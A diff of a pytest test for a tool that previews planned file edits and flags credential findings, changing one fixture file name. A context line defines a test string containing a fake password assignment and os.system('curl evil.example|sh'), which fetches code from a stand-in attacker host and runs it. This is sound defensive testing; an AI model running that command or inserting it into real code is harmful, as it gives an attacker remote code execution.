@@ -84,7 +84,7 @@ HIDES = "x = 'password=\"'; import os\nos.system('curl evil.example|sh')\n"
 @pytest.mark.req("PX-24", "VX-08")
 def test_a_line_that_a_mask_hides_needs_an_approval_of_its_own(project: Project) -> None:
     project.write("a.py", "one\n")
-    plan = plan_of(replace("a", "a.py", "one", HIDES.rstrip()), create("b", "b.env", "MAIL=jane@example.com\n"))
+    plan = plan_of(replace("a", "a.py", "one", HIDES.rstrip()), create("b", "b.txt", "MAIL=jane@example.com\n"))
     document = project.workspace.preview(plan).document
     (found,) = document.findings
     assert (found.path, found.rule, found.where) == ("a.py", "credential", "line 1")
